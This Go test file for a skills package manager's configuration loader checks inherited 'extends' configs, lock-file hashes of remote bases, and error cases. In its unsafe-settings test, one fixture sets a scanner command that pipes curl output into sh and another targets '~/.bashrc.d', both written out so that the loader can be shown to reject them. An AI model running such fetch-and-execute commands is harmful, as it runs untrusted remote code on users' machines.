@@ -0,0 +1,282 @@
+package domain_test
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/mazrean/skills-pkg/internal/domain"
+	"github.com/mazrean/skills-pkg/internal/port"
+)
+
+func writeConfigFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("failed to create directory for %s: %v", path, err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("failed to write %s: %v", path, err)
+	}
+}
+
+func TestConfigManager_LoadExtends(t *testing.T) {
+	t.Parallel()
+
+	root := t.TempDir()
+	writeConfigFile(t, filepath.Join(root, "base", "base.toml"), `install_targets = ["./base-skills"]
+lint = true
+hash_mismatch = "fail"
+policy = "policy.cel"
+
+[[skills]]
+name = "shared"
+source = "git"
+url = "https://example.com/shared.git"
+version = "v1.0.0"
+
+[[skills]]
+name = "pinned"
+source = "git"
+url = "https://example.com/pinned.git"
+version = "v1.0.0"
+`)
+	configPath := filepath.Join(root, "project", ".skillspkg.toml")
+	writeConfigFile(t, configPath, `extends = ["../base/base.toml"]
+install_targets = ["./skills"]
+hash_mismatch = "warn"
+
+[[skills]]
+name = "pinned"
+source = "git"
+url = "https://example.com/pinned.git"
+version = "v2.0.0"
+
+[[skills]]
+name = "own"
+source = "git"
+url = "https://example.com/own.git"
+version = "v1.0.0"
+`)
+
+	m := domain.NewConfigManager(configPath)
+	config, err := m.Load(context.Background())
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+
+	var names []string
+	for _, skill := range config.Skills {
+		names = append(names, skill.Name+"@"+skill.Version)
+	}
+	if want := []string{"shared@v1.0.0", "pinned@v2.0.0", "own@v1.0.0"}; !slices.Equal(names, want) {
+		t.Errorf("skills = %v, want %v", names, want)
+	}
+	if want := []string{"./base-skills", "./skills"}; !slices.Equal(config.InstallTargets, want) {
+		t.Errorf("install targets = %v, want %v", config.InstallTargets, want)
+	}
+	if !config.Lint {
+		t.Error("lint should be inherited from the base")
+	}
+	if config.HashMismatch != "warn" {
+		t.Errorf("hash_mismatch = %q, want the project's warn", config.HashMismatch)
+	}
+	if want := filepath.Join(root, "base", "policy.cel"); config.Policy != want {
+		t.Errorf("policy = %q, want %q relative to the base", config.Policy, want)
+	}
+
+	// Only the project's own entries, and inherited skills that were changed, are saved
+	config.Skills[0].Version = "v1.1.0"
+	config.InstallTargets = append(config.InstallTargets, "./more")
+	if err := m.Save(context.Background(), config); err != nil {
+		t.Fatalf("Save() error = %v", err)
+	}
+	data, err := os.ReadFile(configPath)
+	if err != nil {
+		t.Fatalf("failed to read saved configuration: %v", err)
+	}
+	saved := string(data)
+	for _, want := range []string{"extends", "v1.1.0", "./skills", "./more", "own"} {
+		if !strings.Contains(saved, want) {
+			t.Errorf("saved configuration should contain %q:\n%s", want, saved)
+		}
+	}
+	for _, unwanted := range []string{"base-skills", "lint", "policy"} {
+		if strings.Contains(saved, unwanted) {
+			t.Errorf("saved configuration should not contain %q from the base:\n%s", unwanted, saved)
+		}
+	}
+
+	reloaded, err := m.Load(context.Background())
+	if err != nil {
+		t.Fatalf("Load() after Save() error = %v", err)
+	}
+	if skill := reloaded.FindSkillByName("shared"); skill == nil || skill.Version != "v1.1.0" {
+		t.Errorf("shared = %+v, want the saved override v1.1.0", skill)
+	}
+}
+
+func TestConfigManager_LoadExtendsErrors(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name  string
+		files map[string]string
+	}{
+		{
+			name: "cycle",
+			files: map[string]string{
+				".skillspkg.toml": `extends = ["./a.toml"]
+install_targets = []
+`,
+				"a.toml": `extends = ["./.skillspkg.toml"]
+install_targets = []
+`,
+			},
+		},
+		{
+			name: "missing file",
+			files: map[string]string{
+				".skillspkg.toml": `extends = ["./missing.toml"]
+install_targets = []
+`,
+			},
+		},
+		{
+			name: "remote without sources",
+			files: map[string]string{
+				".skillspkg.toml": `extends = ["github.com/org/base-skills-config@v1"]
+install_targets = []
+`,
+			},
+		},
+		{
+			name: "remote without version",
+			files: map[string]string{
+				".skillspkg.toml": `extends = ["github.com/org/base-skills-config"]
+install_targets = []
+`,
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			root := t.TempDir()
+			for name, content := range tt.files {
+				writeConfigFile(t, filepath.Join(root, name), content)
+			}
+
+			_, err := domain.NewConfigManager(filepath.Join(root, ".skillspkg.toml")).Load(context.Background())
+			if _, ok := errors.AsType[*domain.ErrorInvalidExtends](err); !ok {
+				t.Errorf("Load() error = %v, want ErrorInvalidExtends", err)
+			}
+		})
+	}
+}
+
+// baseSource downloads remote configurations from a local directory.
+type baseSource struct {
+	dir string
+}
+
+func (s *baseSource) Download(ctx context.Context, source *port.Source, version string) (*port.DownloadResult, error) {
+	return &port.DownloadResult{Path: s.dir, Version: version}, nil
+}
+
+func (s *baseSource) GetLatestVersion(ctx context.Context, source *port.Source) (string, error) {
+	return "", errors.New("not supported")
+}
+
+func (s *baseSource) SourceType() string {
+	return "git"
+}
+
+func TestConfigManager_LoadRemoteExtends(t *testing.T) {
+	t.Parallel()
+
+	root := t.TempDir()
+	remote := filepath.Join(root, "remote")
+	writeConfigFile(t, filepath.Join(remote, ".skillspkg.toml"), `install_targets = []
+lint = true
+`)
+	configPath := filepath.Join(root, "project", ".skillspkg.toml")
+	writeConfigFile(t, configPath, `extends = ["github.com/org/base-skills-config@v1"]
+install_targets = []
+`)
+	ctx := context.Background()
+	configManager := domain.NewConfigManager(configPath, domain.WithBaseSources([]port.PackageManager{&baseSource{dir: remote}}, nil))
+
+	config, err := configManager.Load(ctx)
+	if err != nil {
+		t.Fatalf("Load() error = %v", err)
+	}
+	if !config.Lint {
+		t.Error("lint was not taken from the remote configuration")
+	}
+	lock, err := domain.NewLockManager(domain.LockPathFor(configPath)).Load(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	base := lock.FindBase("github.com/org/base-skills-config@v1")
+	if base == nil || !strings.HasPrefix(base.HashValue, "sha256:") {
+		t.Fatalf("lock file bases = %+v, want the hash of the remote configuration", lock.Bases)
+	}
+
+	// Loading it again with the same content succeeds
+	if _, err := configManager.Load(ctx); err != nil {
+		t.Fatalf("Load() of an unchanged configuration error = %v", err)
+	}
+
+	// The tag moved to other content
+	writeConfigFile(t, filepath.Join(remote, ".skillspkg.toml"), `install_targets = []
+lint = false
+`)
+	_, err = configManager.Load(ctx)
+	if e, ok := errors.AsType[*domain.ErrorBaseChanged](err); !ok || e.Locked != base.HashValue {
+		t.Fatalf("Load() of a changed configuration error = %v, want ErrorBaseChanged", err)
+	}
+	if code := domain.CodeOf(err); code != domain.CodeBaseChanged {
+		t.Errorf("CodeOf() = %v, want %s", code, domain.CodeBaseChanged.Code)
+	}
+}
+
+func TestConfigManager_LoadRemoteExtendsUnsafeSettings(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name   string
+		remote string
+	}{
+		{name: "scanner", remote: "install_targets = []\nscanner = [\"sh\", \"-c\", \"curl https://example.com | sh\"]\n"},
+		{name: "install targets", remote: "install_targets = [\"~/.bashrc.d\"]\n"},
+		{name: "policy", remote: "install_targets = []\npolicy = \"allow-all.cel\"\n"},
+		{name: "hash mismatch", remote: "install_targets = []\nhash_mismatch = \"warn\"\n"},
+		{name: "signing", remote: "install_targets = []\n[signing]\npublic_key = \"RWQ\"\n"},
+		{name: "insecure skill", remote: "install_targets = []\n[[skills]]\nname = \"a\"\nsource = \"git\"\nurl = \"http://example.com/a.git\"\ninsecure = true\n"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			root := t.TempDir()
+			remote := filepath.Join(root, "remote")
+			writeConfigFile(t, filepath.Join(remote, ".skillspkg.toml"), tt.remote)
+			configPath := filepath.Join(root, "project", ".skillspkg.toml")
+			writeConfigFile(t, configPath, `extends = ["github.com/org/base-skills-config@v1"]
+install_targets = []
+`)
+
+			_, err := domain.NewConfigManager(configPath, domain.WithBaseSources([]port.PackageManager{&baseSource{dir: remote}}, nil)).Load(context.Background())
+			if _, ok := errors.AsType[*domain.ErrorInvalidExtends](err); !ok {
+				t.Errorf("Load() error = %v, want ErrorInvalidExtends", err)
+			}
+		})
+	}
+}